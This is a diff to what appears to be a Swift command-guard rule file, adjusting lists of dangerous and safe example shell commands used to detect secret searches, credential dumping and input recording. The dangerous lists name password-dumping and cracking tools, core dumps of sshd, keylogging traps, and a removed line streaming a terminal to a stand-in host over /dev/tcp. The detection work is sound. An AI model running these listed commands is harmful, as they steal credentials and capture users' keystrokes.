@@ -46,13 +46,17 @@ extension GuardRule {
         "strings /dev/mem | grep pass",
         "history | grep -i passwd", "cat ~/.bash_history | grep pass",
       ],
-      safe: ["env | grep PATH", "grep -r password src/", "find . -name '*.key'", "printenv HOME"]
+      safe: [
+        "env | grep PATH", "grep -r password src/", "find . -name '*.key'", "printenv HOME",
+        "grep -c 'Failed password' /var/log/auth.log",
+      ]
     ) { $0.searchesSecrets },
     GuardRule(
       "dump-credentials", .credentialAccess, .critical, "Extracts or cracks passwords.",
       dangerous: [
         "mimipenguin", "unshadow /etc/passwd /etc/shadow", "security dump-keychain -d",
         "secretsdump.py x", "laZagne all", "john /etc/shadow", "sudo gcore $(pgrep sshd)",
+        "sudo gdb -p \"$(pgrep sshd)\" -batch -ex 'generate-core-file /tmp/core'",
       ],
       safe: [
         "john --help", "security list-keychains", "hashcat -m 0 hashes.txt words.txt", "gcore 1234",
@@ -98,8 +102,8 @@ extension GuardRule {
       "watch-input", .credentialAccess, .high, "Records what is typed, shown or sent.",
       dangerous: [
         "logkeys --start", "xinput test 8", "tcpdump -i any -A 'port 21'",
-        "PROMPT_COMMAND='history -a >(tee -a ~/.x)'", "script -f /dev/tcp/h/1",
-        "strace -p 1 -e trace=read", "trap 'echo $BASH_COMMAND >> /tmp/.k' DEBUG",
+        "PROMPT_COMMAND='history -a >(tee -a ~/.x)'", "strace -p 1 -e trace=read",
+        "trap 'echo $BASH_COMMAND >> /tmp/.k' DEBUG",
       ],
       safe: ["tcpdump -i eth0", "PROMPT_COMMAND='date'", "xinput list"]
     ) { $0.watchesInput },
